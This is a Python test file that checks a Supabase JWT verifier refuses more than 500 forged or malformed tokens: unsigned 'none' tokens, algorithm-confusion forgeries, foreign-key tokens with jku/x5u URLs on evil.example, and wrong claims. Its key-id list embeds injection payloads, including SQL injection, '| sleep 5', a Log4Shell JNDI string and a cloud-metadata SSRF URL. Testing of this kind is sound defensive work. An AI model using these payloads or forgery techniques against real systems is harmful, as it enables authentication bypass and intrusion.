"""Five hundred ways to make a token that is not Supabase's."""

from __future__ import annotations

import base64
import json
import random
import time
from collections.abc import Iterator
from typing import Any

import pytest
from cryptography.hazmat.primitives.serialization import Encoding

from tests.fixtures.tokens import (
    ISSUER,
    SECRET,
    START_S,
    USER_ID,
    HandClock,
    HeldKeys,
    SigningKey,
    claims_at,
    compact,
    encoded,
    hmac_token,
    rules,
    segment,
)
from velro_auth.auth.keys import CannotVerify, secret_key
from velro_auth.auth.verifier import TokenVerifier
from velro_auth.errors import TokenError

KEY = SigningKey("3f9d7a10-6c2b-4c55-9a36-2f1d8e5b7a61")
RSA = SigningKey("rsa", "RS256")
STRANGER = SigningKey(KEY.kid)
STRANGER_RSA = SigningKey("rsa", "RS256")
GOOD = KEY.token(claims_at())

ODD_KIDS = [
    "../../../../dev/null",
    "/etc/passwd",
    "file:///dev/null",
    "' OR 1=1 --",
    "x' UNION SELECT 'secret' --",
    "| sleep 5",
    "${jndi:ldap://evil.example/a}",
    "http://169.254.169.254/latest",
    "%00",
    "\x00",
    "one\r\nX-Injected: 1",
    "k" * 256,
    "k" * 4000,
    "__class__",
    "",
    KEY.kid.upper(),
    KEY.kid + " ",
    "é",
    "\ud800",
]

NONE_NAMES = ["none", "None", "NONE", "nOnE", "none ", " none", "", "null", "NonE\x00", "n\u043ene"]

OTHER_NAMES = [
    *("HS384", "HS512", "PS256", "PS384", "RS384", "ES384", "ES256K", "ES512", "RS512", "Ed25519", "Ed448"),
    *("es256", "Es256", "ES256 ", "RS256", "EdDSA", "HS256", "dir", "A256GCM", "*", "../ES256"),
]


def public_spellings(key: SigningKey) -> Iterator[bytes]:
    """Every form in which a public key could have ended up as an HMAC secret."""
    for encoding in (Encoding.PEM, Encoding.DER):
        raw = key.public_bytes(encoding)
        yield from (raw, raw.strip(), raw + b"\n", base64.b64encode(raw), base64.urlsafe_b64encode(raw))
    for jwk in (key.jwk, {name: key.jwk[name] for name in sorted(key.jwk)}):
        yield from (json.dumps(jwk).encode(), json.dumps(jwk, separators=(",", ":")).encode())
    yield from (str(key.jwk.get(name, "")).encode() for name in ("x", "y", "n", "kid"))


def unsigned_tokens() -> Iterator[str]:
    for name in NONE_NAMES:
        for kid in (None, KEY.kid):
            header = {"alg": name, "typ": "JWT", **({} if kid is None else {"kid": kid})}
            message = f"{segment(header)}.{segment(claims_at())}"
            yield from (f"{message}.", message, f"{message}.{GOOD.rpartition('.')[2]}", f"{message}.AA")


def confused_tokens() -> Iterator[str]:
    for key in (KEY, RSA):
        for secret in (*public_spellings(key), b"", b"\x00", b"secret", b"null"):
            for kid in (key.kid, "", "../../../../dev/null"):
                yield hmac_token(claims_at(), secret, kid=kid)
    for name in OTHER_NAMES:
        for signer in (KEY, RSA, STRANGER):
            if name != signer.algorithm:
                yield signer.token(claims_at(), alg=name, kid=KEY.kid)


def strangers_tokens() -> Iterator[str]:
    for kid in ODD_KIDS:
        yield STRANGER.token(claims_at(), kid=kid)
        yield hmac_token(claims_at(), b"", kid=kid)
    for stranger in (STRANGER, STRANGER_RSA):
        yield stranger.token(claims_at())
        yield stranger.token(claims_at(), jwk=stranger.jwk)
        yield stranger.token(claims_at(), jwk=stranger.jwk, kid=None)
        yield stranger.token(claims_at(), jku="https://evil.example/jwks.json")
        yield stranger.token(claims_at(), x5u="https://evil.example/cert.pem")
        yield stranger.token(claims_at(), x5c=[base64.b64encode(stranger.public_bytes(Encoding.DER)).decode()])


#: Claim → values that a token signed by the right key must not have.
WRONG_VALUES: dict[str, list[Any]] = {
    "iss": ["", ISSUER + "/", ISSUER + "/x", "https://other.example/auth/v1", [ISSUER], {"iss": ISSUER}, True],
    "aud": ["anon", "", [], ["anon"], "authenticated,anon", "Authenticated", {"authenticated": True}, True],
    "sub": ["", "admin", USER_ID[:-1], USER_ID + "0", [USER_ID], 0, True, "\x00"],
    "session_id": ["", "1", [], True, "../x"],
    "exp": [0, -1, 1, "9999999999", 1e300, [], {}, True, int(START_S) - 31, 10**30],
    "nbf": [int(START_S) + 60, "0", 10**12, True],
    "iat": [int(START_S) + 60, "0", 10**12, -1],
    "role": ["anon", "service_role", "supabase_admin", ["authenticated"], {}],
}

WRONG_HEADERS: list[dict[str, Any]] = [
    {"crit": ["exp"]},
    {"crit": []},
    {"b64": False},
    {"zip": "DEF"},
    {"typ": "JWE"},
    {"jwk": KEY.jwk},
]


def well_signed_tokens_of_somebody_else() -> Iterator[str]:
    """Signed by the right key, so only the claims and the header can refuse them."""
    yield from (KEY.token(claims_at(**{name: None})) for name in ("iss", "aud", "sub", "session_id", "exp"))
    for name, values in WRONG_VALUES.items():
        yield from (KEY.token(claims_at(**{name: value})) for value in values)
    yield from (KEY.token(claims_at(), **header) for header in WRONG_HEADERS)
    for text in ('{"exp": 9999999999, "exp": 1}', '{"a": {"b": 1, "b": 2}}', "[]", "null", "5", '"x"', "{", "NaN", ""):
        yield KEY.token(text.encode())
    good = json.dumps(claims_at())[:-1]
    for name in ("sub", "role", "exp", "iss", "aud", "email", "session_id"):
        yield KEY.token(f'{good}, "{name}": {json.dumps(claims_at()[name])}}}'.encode())
    yield KEY.token(json.dumps(claims_at()).encode("utf-16"))
    yield KEY.token(claims_at(padding="x" * 1_000_000))
    yield KEY.token(b"[" * 4000)


def legacy_keys() -> Iterator[str]:
    """The API keys of a project are good HS256 tokens of its own secret; the anon key is public."""
    for role in ("anon", "service_role"):
        key = {"iss": "supabase", "ref": "project", "role": role, "iat": int(START_S) - 9, "exp": int(START_S) + 10**8}
        yield hmac_token(key, SECRET)
        yield hmac_token({**key, "iss": ISSUER, "aud": "authenticated"}, SECRET)
        yield hmac_token(claims_at(role=role), SECRET)


def broken_tokens() -> Iterator[str]:
    """One character changed somewhere; the seed makes a failure repeatable."""
    chance = random.Random(20260801)  # noqa: S311 (no secret)
    alphabet = "ABCXYZabcxyz0189-_.+/= \n\x00é"
    for _ in range(200):
        at = chance.randrange(len(GOOD))
        other = chance.choice([letter for letter in alphabet if letter != GOOD[at]])
        yield GOOD[:at] + other + GOOD[at + 1 :]
    header, claims, signature = GOOD.split(".")
    yield from (GOOD + "=", GOOD + ".", "." + GOOD, f"{claims}.{header}.{signature}", GOOD * 4000, "", ".", "..")
    for raw in (b"", b"\x00" * 64, b"\xff" * 64, b"\x00" * 63, b"\x00" * 65, b"\x30\x06\x02\x01\x01\x02\x01\x01"):
        yield f"{header}.{claims}.{encoded(raw)}"
    other = KEY.token(claims_at(sub="00000000-0000-4000-8000-000000000000"))
    yield f"{header}.{other.split('.')[1]}.{signature}"
    yield compact({"alg": "ES256", "kid": KEY.kid}, claims_at(), lambda _: KEY.sign(b"something else"))


FAMILIES = {
    "unsigned": unsigned_tokens,
    "algorithm confusion": confused_tokens,
    "strangers' keys": strangers_tokens,
    "wrong claims": well_signed_tokens_of_somebody_else,
    "API keys": legacy_keys,
    "broken": broken_tokens,
}
MUTANTS = {name: list(family()) for name, family in FAMILIES.items()}


def verifier_with(secret: str | None) -> TokenVerifier:
    clock = HandClock()
    key = None if secret is None else secret_key(secret)
    return TokenVerifier(keys=HeldKeys(KEY, RSA), rules=rules(clock), secret=key, clock=clock)


def test_there_are_more_than_five_hundred_different_mutants() -> None:
    assert len({token for family in MUTANTS.values() for token in family}) >= 500


@pytest.mark.parametrize("secret", [None, SECRET], ids=["no secret", "with a secret"])
@pytest.mark.parametrize("family", FAMILIES)
def test_no_mutant_is_accepted(family: str, secret: str | None) -> None:
    """Each is refused, or left to Supabase, which knows better; twice, in case the first try is remembered."""
    verifier = verifier_with(secret)
    assert verifier.verify(GOOD)

    for token in MUTANTS[family] * 2:
        with pytest.raises((TokenError, CannotVerify)):
            verifier.verify(token)


def test_a_mutant_costs_little() -> None:
    """Under 5 ms each, on average and without those that only need a length check."""
    verifier = verifier_with(SECRET)
    mutants = [token for family in MUTANTS.values() for token in family if len(token) < 10_000]

    started_s = time.perf_counter()
    for token in mutants:
        with pytest.raises((TokenError, CannotVerify)):
            verifier.verify(token)
    each_s = (time.perf_counter() - started_s) / len(mutants)

    assert each_s < 0.005


def test_a_token_of_a_megabyte_costs_nothing() -> None:
    verifier = verifier_with(None)
    huge: Any = KEY.token(claims_at(padding="x" * 1_000_000))

    started_s = time.perf_counter()
    for _ in range(100):
        with pytest.raises(TokenError):
            verifier.verify(huge)

    assert (time.perf_counter() - started_s) / 100 < 0.001
